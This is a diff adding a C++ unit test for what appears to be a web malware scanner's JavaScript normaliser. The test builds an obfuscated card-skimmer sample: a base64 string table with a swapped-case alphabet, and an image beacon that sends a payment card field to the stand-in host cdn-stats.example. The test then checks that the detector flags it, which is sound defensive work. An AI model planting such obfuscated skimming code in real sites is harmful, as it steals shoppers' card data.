@@ -266,3 +266,27 @@ TEST(NormalizeQuiet, LicenceEncodedLoaderIsObfuscationOnly) {
 
 }  // namespace
 }  // namespace tq::webroot
+
+namespace tq::webroot {
+namespace {
+
+TEST(NormalizeJs, NamesHiddenInABase64StringArrayStillCount) {
+  // An obfuscator's string table: every name base64-encoded with a case-swapped alphabet,
+  // looked up through a function the normaliser does not run.
+  auto swap = [](std::string s) {
+    for (char& c : s)
+      c = std::isupper(static_cast<unsigned char>(c)) ? static_cast<char>(std::tolower(c))
+                                                      : static_cast<char>(std::toupper(c));
+    return s;
+  };
+  std::string table;
+  for (const char* w : {"payment[cc_number]", "checkout", "Image", "src", "https://cdn-stats.example/i.gif"})
+    table += "'" + swap(Base64(w)) + "',";
+  auto n = Js("var _0x3f2a=[" + table + "];function _0x1b(i){return atob(_0x3f2a[i]);}"
+              "var v=document[_0x1b(0)];var m=new window[_0x1b(2)]();m[_0x1b(3)]=_0x1b(4)+btoa(v);");
+  EXPECT_TRUE(HasTrait(n, "js.card_exfil")) << AllText(n);
+  EXPECT_EQ(Best(n), 4);
+}
+
+}  // namespace
+}  // namespace tq::webroot
